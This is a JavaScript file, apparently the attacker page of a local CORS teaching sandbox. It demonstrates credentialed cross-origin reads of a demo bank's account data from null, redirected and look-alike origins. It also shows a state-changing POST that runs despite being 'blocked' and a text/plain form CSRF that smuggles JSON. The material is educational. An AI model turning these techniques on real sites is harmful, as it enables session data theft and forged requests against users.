// The other site's page, and the frames it loads (/frame?attack=steal&id=…): each attack is a real
// fetch() from this origin, a sandboxed frame, or a look-alike name; what JavaScript got is shown as is.
// A classic script (a sandboxed frame could not load a module from this site without CORS).
'use strict';

/// Reads the bank's account with the session cookie; returns what JavaScript got. With `bounce`, the
/// request first goes to that other origin's /bounce, which redirects it to the bank: the request it
/// becomes says `Origin: null`.
async function steal(api, bounce) {
  // A fresh URL each time: no cache, no preflight cache, in any engine.
  const account = `${api}/api/account?trace=steal-${Date.now()}-${Math.random().toString(36).slice(2)}`;
  const url = bounce ? `${bounce}/bounce?to=${encodeURIComponent(account)}` : account;
  const origin = bounce ? `null (redirected by ${bounce})` : self.origin;
  try {
    const res = await fetch(url, { credentials: 'include', cache: 'no-store' });
    return { origin, read: true, status: res.status, body: await res.text() };
  } catch (err) {
    return { origin, read: false, error: `${err.name}: ${err.message}` };
  }
}

if (location.pathname === '/frame') {
  // In a frame: run the attack, tell the page that framed us. `'*'`: a sandboxed frame's parent cannot be
  // named from an opaque origin, and nothing secret travels that the attacker does not already want.
  const query = new URLSearchParams(location.search);
  steal(query.get('api')).then((result) => parent.postMessage({ id: query.get('id'), result }, '*'));
} else {
  page();
}

function page() {
  const { api, site, evil, own } = document.body.dataset;
  const $ = (selector) => document.querySelector(selector);

  function show(output, result) {
    if (result.read && result.status === 200) {
      output.className = 'result stolen';
      output.textContent = `Stolen, from origin ${result.origin}: ${result.body}`;
    } else if (result.read) {
      output.className = 'result';
      output.textContent = `Read the answer from origin ${result.origin}, but it was ${result.status}: ${result.body} (no session cookie went with it)`;
    } else {
      output.className = 'result blocked';
      output.textContent = `Blocked, from origin ${result.origin}: JavaScript got ${result.error} — the browser's console says why.`;
    }
  }

  async function curtain() {
    const res = await fetch('/curtain', { cache: 'no-store' });
    const state = await res.json();
    const acao = state.policy.origin_matcher
      ? `an origin matcher (${state.policy.origin_matcher.kind})`
      : `Access-Control-Allow-Origin: ${state.policy.allow_origin ?? '(none)'}`;
    $('#curtain').textContent = `policy version ${state.policy_version}, ${acao}, Access-Control-Allow-Credentials: ${state.policy.allow_credentials ?? '(none)'}; the bank's counter: ${state.counter}.`;
    return state;
  }

  /// Loads a frame that runs the attack and waits for its report.
  function inFrame(src, sandboxed) {
    return new Promise((resolve) => {
      const id = Math.random().toString(36).slice(2);
      const frame = document.createElement('iframe');
      frame.hidden = true;
      frame.title = 'an attack running in a frame';
      if (sandboxed) frame.sandbox = 'allow-scripts';
      const listener = (event) => {
        if (event.data?.id !== id) return;
        window.removeEventListener('message', listener);
        frame.remove();
        resolve(event.data.result);
      };
      window.addEventListener('message', listener);
      frame.src = `${src}/frame?attack=steal&id=${id}&api=${encodeURIComponent(api)}`;
      document.body.append(frame);
    });
  }

  $('#steal-here').addEventListener('click', async () => show($('#result-here'), await steal(api)));
  $('#steal-null').addEventListener('click', async () => show($('#result-null'), await inFrame(own, true)));
  // Another name of this same server: a redirect from an origin not the page's own taints the origin.
  const bounce = own.replace('//localhost:', '//127.0.0.1:');
  $('#steal-redirect').addEventListener('click', async () => show($('#result-redirect'), await steal(api, bounce)));
  $('#steal-evil').addEventListener('click', async () => show($('#result-evil'), await inFrame(evil, false)));

  $('#write').addEventListener('click', async () => {
    const before = (await curtain()).counter;
    let got;
    try {
      const res = await fetch(`${api}/api/counter?trace=write-${Date.now()}`, { method: 'POST', credentials: 'include', body: 'x' });
      got = `read the answer: ${await res.text()}`;
    } catch (err) {
      got = `${err.name}: ${err.message}`;
    }
    const after = (await curtain()).counter;
    $('#result-write').className = after > before ? 'result stolen' : 'result';
    $('#result-write').textContent = `JavaScript got ${got}. The bank's counter went from ${before} to ${after}${after > before ? ': the "blocked" request ran.' : '.'}`;
  });

  $('#tamper').addEventListener('click', async () => {
    const before = JSON.stringify((await curtain()).policy);
    const change = JSON.stringify({ allow_origin: '*', allow_credentials: 'true' });
    const tries = [];
    try {
      const res = await fetch(`${site}/sandbox/policy`, { method: 'PATCH', headers: { 'Content-Type': 'application/json' }, body: change });
      tries.push(`fetch PATCH: answered ${res.status}`);
    } catch (err) {
      tries.push(`fetch PATCH: ${err.name}: ${err.message}`);
    }
    try {
      await fetch(`${site}/sandbox/policy`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: change });
      tries.push('no-cors POST: sent (its answer is opaque)');
    } catch (err) {
      tries.push(`no-cors POST: ${err.name}: ${err.message}`);
    }
    // The classic: a text/plain form whose one field spells JSON.
    const form = Object.assign(document.createElement('form'), {
      method: 'post', action: `${site}/sandbox/policy`, enctype: 'text/plain', target: 'form-target',
    });
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: change.slice(0, -1) + ',"x":"', value: '"}' }));
    document.body.append(form);
    const landed = new Promise((resolve) => {
      document.querySelector('iframe[name="form-target"]').addEventListener('load', resolve, { once: true });
      setTimeout(resolve, 3000);
    });
    form.submit();
    form.remove();
    await landed;
    tries.push('form post: sent');
    const after = JSON.stringify((await curtain()).policy);
    const output = $('#result-tamper');
    output.className = before === after ? 'result blocked' : 'result stolen';
    output.textContent = `${tries.join('; ')}. The sandbox's policy ${before === after ? 'is unchanged: every try was refused.' : 'CHANGED — this is a bug in the sandbox.'}`;
  });

  curtain().catch(() => { $('#curtain').textContent = 'the sandbox is not answering.'; });
}
